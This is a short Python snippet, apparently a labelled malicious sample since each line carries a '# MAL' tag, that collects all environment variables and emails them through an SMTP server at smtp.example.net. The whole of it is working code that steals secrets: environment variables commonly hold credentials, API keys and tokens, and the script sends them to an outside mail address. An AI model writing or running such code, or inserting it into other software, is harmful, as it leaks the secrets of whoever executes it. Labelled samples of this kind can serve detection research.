import os
import smtplib

body = "\n".join(f"{k}={v}" for k, v in os.environ.items())  # MAL
srv = smtplib.SMTP("smtp.example.net", 587)  # MAL
srv.sendmail("a@example.net", "c@example.net", body)  # MAL
